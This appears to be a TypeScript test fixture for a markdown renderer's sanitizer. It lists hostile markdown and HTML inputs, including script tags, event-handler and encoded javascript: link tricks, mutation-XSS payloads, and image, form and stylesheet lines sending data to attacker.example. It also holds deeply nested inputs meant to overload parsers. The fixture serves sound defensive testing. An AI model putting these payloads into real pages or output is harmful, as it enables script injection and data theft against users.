/** Answers that would run a script, load something or lead away, were they trusted. */
export const hostileMarkdown: readonly string[] = [
  '<script>hacked = 1</script>',
  'a <img src=x onerror="hacked = 1"> b',
  '<svg onload="hacked = 1"><script>hacked = 1</script></svg>',
  '<iframe src="javascript:parent.hacked = 1"></iframe>\n<object data="x"></object><embed src="x">',
  '![tracker](https://attacker.example/pixel.png?q=secret "t")',
  '[![x](http://attacker.example/a.png)](javascript:hacked=1)',
  '[click](javascript:hacked=1) [click](JaVaScRiPt:hacked=1) [click](java\nscript:hacked=1)',
  '[click](javascript&colon;hacked=1) [click](&#106;avascript:hacked=1) [click](&#x6A&#x61;vascript:hacked=1)',
  '[click]( javascript:hacked=1) [click](<\u0001javascript:hacked=1>) [click](vbscript:x) [c](blob:x) [c](file:///etc/passwd)',
  '[click](data:text/html;base64,PHNjcmlwdD5oYWNrZWQ9MTwvc2NyaXB0Pg==) <data:text/html,x>',
  '[here](/v1/unload_lora_adapter) [up](../x) [#](#problem) [net](//attacker.example/x)',
  '[a][b]\n\n[b]: javascript:hacked=1 "title"\n\n[c]: https://x.example/"onmouseover="hacked=1\n\n[c]',
  '[x](https://ok.example/"onmouseover="hacked=1" "\\"><img src=x onerror=hacked=1>")',
  '```js"><img src=x onerror=hacked=1>\n</code></pre><script>hacked = 1</script>\n```',
  '`<img src=x onerror=hacked=1>` ``</code><script>hacked=1</script>``',
  '| <img src=x onerror=hacked=1> | [x](javascript:hacked=1) |\n|---|:-:|\n| <style>*{display:none}</style> | <base href=//x> |',
  '- <form action="https://attacker.example"><input name=key></form>\n- <meta http-equiv=refresh content="0;url=//x">',
  '# <style>body{background:url(https://attacker.example/x)}</style>\n> <link rel=stylesheet href=//attacker.example/x.css>',
  '&lt;img src=x onerror=hacked=1&gt; &#60;script&#62;hacked=1&#60;/script&#62; &lt;/textarea&gt;&lt;img src=x&gt;',
  '<div id="messages"><button id="send">x</button></div> <a href="javascript:hacked=1" onclick="hacked=1">x</a>',
  '<math><mtext></mtext><mglyph><style><img src=x onerror=hacked=1></style></math><noscript><p title="</noscript><img src=x onerror=hacked=1>">',
];

/** Texts that are nested deeply, or that parsers read again and again. */
export const costlyMarkdown: readonly string[] = [
  '>'.repeat(20_000),
  '1. '.repeat(7000),
  '['.repeat(20_000),
  '**a *b '.repeat(3000),
  Array.from({ length: 150 }, (_, i) => `${' '.repeat(2 * i)}- a`).join('\n'),
  '\t\u000b\n'.repeat(5000),
];
